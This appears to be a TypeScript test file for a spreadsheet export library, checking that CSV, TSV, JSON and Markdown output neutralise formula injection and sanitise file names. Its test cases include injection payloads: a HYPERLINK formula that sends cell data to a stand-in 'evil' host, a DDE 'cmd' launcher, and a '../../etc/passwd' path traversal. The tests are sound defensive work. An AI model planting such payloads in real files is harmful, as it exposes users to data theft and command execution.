import { describe, expect, test } from 'vitest'
import { csvLine, csvLines } from './csv.ts'
import { markdownTable } from './markdownTable.ts'
import { plainCell } from './plainCell.ts'
import { sheetOf } from './sheet.ts'
import { sheetFile } from './sheetFile.ts'
import { sheetJson } from './sheetJson.ts'
import { tsv } from './tsv.ts'

describe('a cell that a spreadsheet would run', () => {
  test.each([
    ['a formula', '=HYPERLINK("http://evil/"&A1)', `'=HYPERLINK("http://evil/"&A1)`],
    ['one that begins with plus', '+1+cmd', `'+1+cmd`],
    ['with minus', "-2+3+cmd|' /C calc'!A0", `'-2+3+cmd|' /C calc'!A0`],
    ['with at', '@SUM(1)', `'@SUM(1)`],
    ['after spaces', '  =1', `'  =1`],
    ['after a tab', '\t=1', `'\t=1`],
    ['after a line feed', '\n=1', `'\n=1`],
    ['after a carriage return', '\r=1', `'\r=1`],
    ['in full width', '＝1', `'＝1`],
    ['after a space of no width', '\u200B=1', `'\u200B=1`],
    ['after a mark of direction', '\u202E\u200F=1', `'\u202E\u200F=1`],
    ['after a control character', '\u0001=1', `'\u0001=1`],
    ['after a word joiner and a space', '\u2060 =1', `'\u2060 =1`],
    ['in the cell that a semicolon begins elsewhere', 'a;=1;b', `a;'=1;b`],
    ['in the second of several names', 'api; @SUM(1)', `api;' @SUM(1)`],
    ['on a line of its own', 'a\n=1', `a\n'=1`],
    ['behind a tab', 'a\t+1', `a\t'+1`],
    ['a hyphen within', 'a; b-1', 'a; b-1'],
    ['a name like any other', 'api-7c9f-x1', 'api-7c9f-x1'],
    ['an equals sign within', 'a=1', 'a=1'],
    ['a negative number of ours', -4, '-4'],
    ['nothing measured', null, ''],
    ['zero', 0, '0'],
    ['a fact', false, 'false'],
  ])('%s', (_, cell, text) => {
    expect(plainCell(cell)).toBe(text)
  })
})

describe('a line of CSV', () => {
  test.each([
    ['plain', ['api', 3], 'api,3\r\n'],
    ['a comma', ['a,b'], '"a,b"\r\n'],
    ['a quote', ['say "hi"'], '"say ""hi"""\r\n'],
    ['line breaks', ['a\r\nb', 'c\nd'], '"a\r\nb","c\nd"\r\n'],
    ['a space at the end', ['a '], '"a "\r\n'],
    ['a formula with a comma', ['=1,2'], `"'=1,2"\r\n`],
    ['right to left', ['\u202Egpj.exe'], '\u202Egpj.exe\r\n'],
    ['nothing', [null, null], ',\r\n'],
  ])('%s', (_, cells, line) => {
    expect(csvLine(cells)).toBe(line)
  })
})

interface Row {
  name: string
  ms: number | null
}
const rows: Row[] = [
  { name: 'b', ms: 0 },
  { name: '=a\t|x', ms: null },
]
const sheet = sheetOf<Row>({
  name: 'pods',
  asOf: Date.UTC(2026, 10, 24, 14, 30),
  range: { from: Date.UTC(2026, 10, 24, 8, 30), to: Date.UTC(2026, 10, 24, 14, 30) },
  leftOut: 2,
  columns: [
    { key: 'pod', of: row => row.name },
    { key: 'home_derp_ms', of: row => row.ms },
    { key: 'pod', of: row => row.name },
  ],
  rows,
})

describe('a table as a file', () => {
  test('CSV has the keys, then the rows in their order; what stands twice is written once', () => {
    expect([...csvLines(sheet)].join('')).toBe(`pod,home_derp_ms\r\nb,0\r\n'=a\t|x,\r\n`)
  })

  test('JSON has values as they are: no guard, null for what was not measured, times in UTC', () => {
    expect(JSON.parse([...sheetJson(sheet)].join(''))).toEqual({
      table: 'pods',
      as_of: '2026-11-24T14:30:00.000Z',
      from: '2026-11-24T08:30:00.000Z',
      to: '2026-11-24T14:30:00.000Z',
      left_out: 2,
      rows: [
        { pod: 'b', home_derp_ms: 0 },
        { pod: '=a\t|x', home_derp_ms: null },
      ],
    })
  })

  test('JSON of no rows is whole too', () => {
    expect(JSON.parse([...sheetJson({ ...sheet, rows: [] })].join(''))).toMatchObject({ rows: [] })
  })

  test('a clipboard keeps each name in its cell', () => {
    expect(tsv(sheet)).toBe(`pod\thome_derp_ms\nb\t0\n'=a |x\t`)
  })

  test('Markdown keeps each name in its cell', () => {
    expect(markdownTable(['Pod'], [['a|b\n<img>']])).toBe('| Pod |\n| --- |\n| a\\|b &lt;img&gt; |')
  })
})

test.each([
  ['as it is', ['pods'], 'tailpath-pods-20261124T143000Z.csv'],
  ['a path', ['links of ../../etc/passwd'], 'tailpath-links-of-etc-passwd-20261124T143000Z.csv'],
  ['quotes and line breaks', ['a"\r\nX: y'], 'tailpath-a-X-y-20261124T143000Z.csv'],
  ['letters of another alphabet', ['données 東京'], 'tailpath-donne-es-20261124T143000Z.csv'],
  ['a name without a letter', ['…'], 'tailpath-20261124T143000Z.csv'],
])("a file's name: %s", (_, words, name) => {
  expect(sheetFile(words, sheet.asOf, 'csv')).toBe(name)
})

test('a long name is cut', () => {
  expect(sheetFile(['x'.repeat(300)], sheet.asOf, 'json').length).toBeLessThan(110)
})
